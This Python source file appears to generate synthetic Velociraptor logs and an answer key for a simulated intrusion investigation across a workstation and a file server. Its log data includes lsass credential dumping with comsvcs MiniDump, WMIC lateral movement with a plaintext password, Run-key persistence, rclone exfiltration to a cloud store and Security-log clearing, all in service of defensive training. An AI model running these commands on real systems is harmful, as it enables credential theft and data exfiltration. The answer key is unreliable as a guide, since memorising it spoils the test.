"""A disc image with a link to a library, then WMI to a file server, memory dumped, files taken. Velociraptor's rows, three hosts.

Beside it: software management that runs encoded PowerShell on every host, a scanner whose logons all fail, an
administrator's desktop session, and an alert about a test file on a host that has nothing to do with it.
"""

from __future__ import annotations

import base64
import json
import random
from pathlib import Path

from ..making import Day, FactRow, Scenario, make_truth
from .layouts import velociraptor
from .machine import CMD, PS, SYS32, SYSTEM_USER, Machine
from .noise import administrator, furnish, maintenance, ordinary

DAY = Day("2025-04-15")
USER, SERVICE, ADMIN = "MERROW\\d.finch", "MERROW\\svc-sql", "MERROW\\k.oduya"
C2, CLOUD, SCANNER, DESK = "198.51.100.140", "203.0.113.17", "10.44.0.9", "10.44.0.61"
DLL = "C:\\ProgramData\\scan.dll"
RUNDLL = SYS32 + "rundll32.exe"


def _workstation(m: Machine) -> None:
    at = DAY.at
    first = m.start(at("09:12:05"), RUNDLL, f'"{RUNDLL}" E:\\scan_0412.dll,Begin', m.procs["explorer"], USER)
    m.loaded(at("09:12:05.4"), first, "E:\\scan_0412.dll", signed=False)
    for clock in ("09:12:09", "09:20:09", "09:31:10"):
        m.net(at(clock), first, C2, 443)
    for clock, exe, line in (
        ("09:14:02", "whoami.exe", "whoami /groups"), ("09:14:20", "net.exe", 'net group "Domain Admins" /domain'),
        ("09:14:51", "nltest.exe", "nltest /domain_trusts"),
    ):  # fmt: skip
        shell = m.start(at(clock), CMD, f"cmd.exe /c {line}", first)
        m.run(at(clock), SYS32 + exe, line, shell)
        m.stop(at(clock), shell)
    copy = "C:\\Users\\d.finch\\AppData\\Local\\ScanHelper\\scan.dll"
    m.wrote(at("09:17:40"), first, copy)
    run = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    reg = m.start(
        at("09:18:05"), SYS32 + "reg.exe", f'reg.exe add {run} /v ScanHelper /d "rundll32 {copy},Begin" /f', first
    )
    m.registry(at("09:18:05.2"), reg, "HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ScanHelper",
               f"rundll32 {copy},Begin")  # fmt: skip
    m.stop(at("09:18:06"), reg)
    m.net(at("09:25:30"), m.procs["System"], "10.44.0.32", 445)
    m.run(at("09:26:10"), SYS32 + "wbem\\WMIC.exe",
          f'wmic /node:MRW-FS02 /user:{SERVICE} /password:Harbour7! process call create "cmd.exe /c rundll32.exe {DLL},Begin"', first)  # fmt: skip


def _server(m: Machine) -> None:
    at = DAY.at
    m.logon(at("09:25:31"), SERVICE, 3, "10.44.0.14", package="NTLM")
    m.wrote(at("09:25:33"), m.procs["System"], DLL)
    m.logon(at("09:26:10"), SERVICE, 3, "10.44.0.14", package="NTLM")
    shell = m.start(at("09:26:11"), CMD, f"cmd.exe /c rundll32.exe {DLL},Begin", m.procs["wmiprvse"], SERVICE, "High")
    agent = m.start(at("09:26:11.3"), RUNDLL, f"rundll32.exe {DLL},Begin", shell)
    m.loaded(at("09:26:11.6"), agent, DLL, signed=False)
    for clock in ("09:26:15", "09:36:15", "09:46:16"):
        m.net(at(clock), agent, C2, 443)
    dump = "C:\\ProgramData\\ls.dmp"
    dumper = m.start(
        at("09:33:20"), RUNDLL, f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 {dump} full", agent
    )
    m.accessed(
        at("09:33:20.4"),
        dumper,
        m.procs["lsass"],
        "0x1fffff",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6c",
    )
    m.wrote(at("09:33:20.9"), dumper, dump)
    m.stop(at("09:33:23"), dumper)
    m.wrote(at("09:38:55"), agent, "C:\\ProgramData\\7za.exe")
    m.run(
        at("09:40:02"),
        "C:\\ProgramData\\7za.exe",
        "C:\\ProgramData\\7za.exe a -pL0ch C:\\ProgramData\\fin.7z D:\\Shares\\Finance",
        agent,
    )
    m.wrote(at("09:40:30"), agent, "C:\\ProgramData\\fin.7z")
    m.wrote(at("09:43:10"), agent, "C:\\ProgramData\\rclone.exe")
    copier = m.start(
        at("09:44:00"),
        "C:\\ProgramData\\rclone.exe",
        "C:\\ProgramData\\rclone.exe copy C:\\ProgramData\\fin.7z mega:up --no-check-certificate",
        agent,
    )
    m.net(at("09:44:02"), copier, CLOUD, 443)
    m.stop(at("09:49:40"), copier)
    m.deleted(at("09:50:05"), agent, "C:\\ProgramData\\fin.7z")
    m.run(at("09:51:00"), SYS32 + "wevtutil.exe", "wevtutil.exe cl Security", agent)


def _management(m: Machine, clock: str) -> None:
    """What the software centre does on every host of the company, every morning."""
    agent = m.boot("ccmexec", "C:\\Windows\\CCM\\CcmExec.exe")
    words = base64.b64encode(
        "Get-CimInstance -Namespace root\\ccm -ClassName SMS_Client | Out-Null".encode("utf-16-le")
    ).decode()
    shell = m.start(
        DAY.at(clock), PS, f"powershell.exe -NoProfile -NonInteractive -EncodedCommand {words}", agent, SYSTEM_USER
    )
    m.stop(DAY.at(clock), shell)


def machines() -> list[Machine]:
    """The workstation, the file server, and a host that has nothing to do with it."""
    dice = random.Random(1504)
    hosts = [
        Machine(n, ip, "MERROW", "merrow.test")
        for n, ip in (("MRW-WS14", "10.44.0.14"), ("MRW-FS02", "10.44.0.32"), ("MRW-WS30", "10.44.0.30"))
    ]
    furnish(hosts[0], USER)
    furnish(hosts[1], server=True)
    furnish(hosts[2], "MERROW\\p.lund")
    for n, m in enumerate(hosts):
        ordinary(m, DAY, dice, "08:30:00", "10:20:00", 380)
        _management(m, f"08:4{n}:10")
    administrator(hosts[1], DAY.at("08:52:00"), ADMIN, DESK)
    maintenance(hosts[2], DAY.at("09:05:00"))
    for time in DAY.spread(dice, "08:35:00", "10:10:00", 40):
        hosts[1].security(time, 4625, SYSTEM_USER, TargetUserName=dice.choice(("admin", "backup", "svc")), TargetDomainName="MERROW", LogonType="3",
                          IpAddress=SCANNER, IpPort=str(40000 + time.second), Status="0xc000006d", SubStatus="0xc0000064")  # fmt: skip
    _workstation(hosts[0])
    _server(hosts[1])
    return hosts


def write(folder: Path) -> None:
    """One file a host, as Velociraptor writes them; the antivirus' alerts beside."""
    for m in machines():
        (folder / f"{m.name}.json").write_text(velociraptor(m), encoding="utf-8")
    alert = {"time": DAY.at("09:03:00").isoformat(), "alert_name": "EICAR test file", "severity": "low", "device": "MRW-WS30", "file": "eicar.com",
             "description": "Test file removed on MRW-WS30"}  # fmt: skip
    (folder / "antivirus.jsonl").write_text(json.dumps(alert) + "\n")


_FACTS: tuple[FactRow, ...] = (
    ("ws", 2, ("mrw-ws14",)), ("fs", 3, ("mrw-fs02",)), ("user", 2, ("d.finch",)), ("svc", 2, ("svc-sql",)), ("c2", 3, (C2,)),
    ("first", 3, ("rundll32.exe & scan_0412.dll",)), ("first_c2", 2, (f"rundll32.exe & mrw-ws14 & {C2}",)), ("groups", 1, ("domain admins",)),
    ("trusts", 1, ("nltest",)), ("run_key", 3, ("scanhelper & run",)), ("wmic", 3, ("wmic & mrw-fs02",)), ("logon", 3, ("svc-sql & logged on & 10.44.0.14",)),
    ("carried", 2, ("scan.dll & mrw-fs02",)), ("wmi_run", 3, ("wmiprvse.exe & cmd.exe",)), ("server_c2", 2, (f"rundll32.exe & mrw-fs02 & {C2}",)),
    ("dump", 3, ("ls.dmp",)), ("archive", 2, ("fin.7z",)), ("taken", 3, ("rclone.exe & mega",)), ("cloud", 1, (CLOUD,)), ("gone", 2, ("deleted & fin.7z",)), ("log", 2, ("wevtutil & security", "cleared & security")),
)  # fmt: skip
SCENARIO = Scenario(
    "disc", write,
    make_truth(
        "disc", _FACTS, "first groups run_key wmic wmi_run dump archive taken gone log",
        "T1218.011 T1069.002 T1482 T1547.001 T1047 T1021.002 T1003.001 T1560.001 T1567.002 T1685.005",
        "T1204.002 T1059.003 T1033 T1071 T1071.001 T1570 T1105 T1078 T1078.002 T1070.004 T1112 T1218 T1087 T1087.002 T1018 T1027 T1041 T1048 T1005 T1039 "
        "T1053 T1574.001 T1036 T1569.002 T1074 T1564 T1069 T1573",
        ("2025-04-15T09:12:05Z", "2025-04-15T09:51:00Z"), (SCANNER, ADMIN, "k.oduya", DESK, "MRW-WS30", "CcmExec.exe", "eicar.com", "p.lund"),
    ),
)  # fmt: skip
